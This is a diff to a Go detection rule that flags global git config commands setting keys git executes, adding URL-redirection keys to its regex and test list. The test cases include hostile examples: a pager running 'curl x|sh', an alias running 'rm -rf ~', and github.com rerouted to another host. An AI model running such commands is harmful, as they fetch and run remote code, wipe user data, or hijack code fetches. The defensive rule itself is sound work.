@@ -62,13 +62,13 @@ func gitOtherRules() []Rule {
 				}
 				return ""
 			},
-			[]string{"git config --global core.hooksPath /tmp/hooks", "git config --global core.pager 'sh -c \"curl x|sh\"'", "git config --global alias.st '!rm -rf ~'", "git config --global core.sshCommand 'ssh -i /tmp/k'"},
+			[]string{"git config --global core.hooksPath /tmp/hooks", "git config --global core.pager 'sh -c \"curl x|sh\"'", "git config --global alias.st '!rm -rf ~'", "git config --global core.sshCommand 'ssh -i /tmp/k'", "git config --global url.\"https://git.x.example/\".insteadOf \"https://github.com/\""},
 			[]string{"git config --global user.name Dev", "git config core.hooksPath .githooks", "git config --global --get core.hooksPath"}),
 	}
 }
 
 // gitCodeKey are configuration keys whose value git runs.
-var gitCodeKey = regexp.MustCompile(`^(core\.(hookspath|pager|sshcommand|fsmonitor|editor|askpass|gitproxy)|diff\.external|sequence\.editor|gpg\.program|gpg\.[a-z]+\.program|.*\.(textconv|command|driver|clean|smudge|process)|credential\.helper|pager\..*|include\.path|includeif\..*)$`)
+var gitCodeKey = regexp.MustCompile(`^(core\.(hookspath|pager|sshcommand|fsmonitor|editor|askpass|gitproxy)|diff\.external|sequence\.editor|gpg\.program|gpg\.[a-z]+\.program|.*\.(textconv|command|driver|clean|smudge|process)|credential\.helper|pager\..*|include\.path|includeif\..*|url\..*\.(insteadof|pushinsteadof))$`)
 
 // globalConfigSet names the key a `git config --global|--system` sets or
 // unsets, "" for reads and for the repository's own configuration.
